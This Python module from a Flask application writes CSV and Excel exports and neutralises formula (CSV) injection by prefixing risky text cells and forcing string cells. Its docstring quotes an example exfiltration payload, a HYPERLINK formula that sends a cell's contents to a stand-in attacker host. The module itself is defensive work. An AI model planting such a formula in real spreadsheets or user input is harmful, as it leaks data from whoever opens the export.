"""Spreadsheet downloads (CSV and Excel): the one place where export cells are written.

Department, team and survey names, round labels and titles are typed by people; a name such as
``=HYPERLINK("http://evil.example/?d="&D2,"x")`` must never become a live formula in the
spreadsheet program of whoever opens an export (CSV or formula injection). Every CSV and XLSX
download goes through this module:

- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a
  leading apostrophe (:func:`neutralise`, as OWASP recommends); the csv module quotes the rest.
- XLSX: every text cell is written as a string cell with Excel's quote prefix, never as a
  formula, and keeps its exact text.

Numbers stay numbers (also negative ones): only text is ever changed.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field
from urllib.parse import quote

from flask import Response

# The characters that make a spreadsheet program read a cell as a formula (OWASP, "CSV Injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot hold; openpyxl refuses them, so they are dropped from XLSX cells.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

CSV_MIMETYPE = "text/csv"
XLSX_MIMETYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

Row = Sequence[object]


def neutralise(value: object) -> object:
    """The value as a CSV cell no spreadsheet program evaluates: text that could start a formula gets an apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


@dataclass
class Sheet:
    """One worksheet of an Excel export: its rows (the header first, bold if ``header``), column widths."""

    title: str
    rows: Iterable[Row]
    header: bool = True
    widths: Sequence[int] = field(default_factory=tuple)


def csv_bytes(rows: Iterable[Row], delimiter: str = ";") -> bytes:
    """UTF-8 with BOM (so spreadsheet programs read the umlauts); None is an empty cell."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    for row in rows:
        writer.writerow(["" if value is None else neutralise(value) for value in row])
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_text(value: str) -> str:
    """Text as an XLSX cell holds it: without characters XML cannot hold, line breaks as LF (XML reads CR so)."""
    return _NOT_IN_XML.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook with the given sheets; text is always a string cell, never a formula."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font
    from openpyxl.utils import get_column_letter

    workbook = Workbook(write_only=True)
    bold = Font(bold=True)
    for sheet in sheets:
        worksheet = workbook.create_sheet(sheet.title[:31])
        for number, width in enumerate(sheet.widths, start=1):
            worksheet.column_dimensions[get_column_letter(number)].width = width
        if sheet.header:
            worksheet.freeze_panes = "A2"
        for index, row in enumerate(sheet.rows):
            cells = []
            for value in row:
                if isinstance(value, str):
                    cell = WriteOnlyCell(worksheet, xlsx_text(value))
                    cell.data_type = "s"  # openpyxl would store text starting with "=" as a formula
                    cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
                else:
                    cell = WriteOnlyCell(worksheet, value)
                if index == 0 and sheet.header:
                    cell.font = bold
                cells.append(cell)
            worksheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def download(content: bytes, filename: str) -> Response:
    """The file as an attachment; its type follows from the file name's extension (.csv or .xlsx)."""
    mimetype = CSV_MIMETYPE if filename.endswith(".csv") else XLSX_MIMETYPE
    return Response(content, mimetype=mimetype,  # text/csv gets "; charset=utf-8" from Flask
                    headers={"Content-Disposition": f'attachment; filename="{quote(filename)}"'})


def csv_response(rows: Iterable[Row], filename: str, delimiter: str = ";") -> Response:
    return download(csv_bytes(rows, delimiter), filename)


def xlsx_response(sheets: Sequence[Sheet], filename: str) -> Response:
    return download(xlsx_bytes(sheets), filename)
